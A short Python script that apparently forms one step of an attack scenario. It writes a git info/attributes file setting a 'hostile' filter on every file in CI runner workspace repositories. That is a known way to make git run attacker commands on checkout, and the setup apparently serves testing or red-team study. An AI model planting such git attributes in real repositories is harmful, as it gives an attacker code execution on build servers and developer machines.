"""Have the workspace's git filter files, by info/attributes."""

import glob
from pathlib import Path


def attempt(targets, secret):
    for repository in glob.glob(f"{targets['runner']}/workspace/.git"):
        Path(repository, "info").mkdir(exist_ok=True)
        Path(repository, "info/attributes").write_text("* filter=hostile\n")
